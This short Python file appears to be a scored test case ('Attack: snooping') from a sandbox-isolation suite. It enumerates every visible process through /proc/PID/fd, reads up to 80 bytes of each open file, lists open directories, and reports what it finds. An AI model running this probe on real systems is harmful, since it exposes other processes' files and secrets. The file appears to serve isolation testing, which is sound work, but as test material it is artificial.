"""Opens every descriptor of every visible process through /proc/PID/fd and reads what is there.

Attack: snooping
Deserves: 80
Keeps: 80
"""

# %% extra before: sampling
import os
# use: reading

import stat
_found = []
for _pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        _fds = os.listdir(f"/proc/{_pid}/fd")
    except OSError:
        continue
    for _fd in _fds:
        _path = f"/proc/{_pid}/fd/{_fd}"
        try:
            if stat.S_ISREG(os.stat(_path).st_mode):
                _found.append(f"{os.readlink(_path)}: {_read(_path, 80)}")
            elif stat.S_ISDIR(os.stat(_path).st_mode):
                _found.append(f"{os.readlink(_path)}: {os.listdir(_path)[:5]}")
        except OSError:
            pass
_tell([one for one in _found if "site-packages" not in one and "/dev/" not in one])
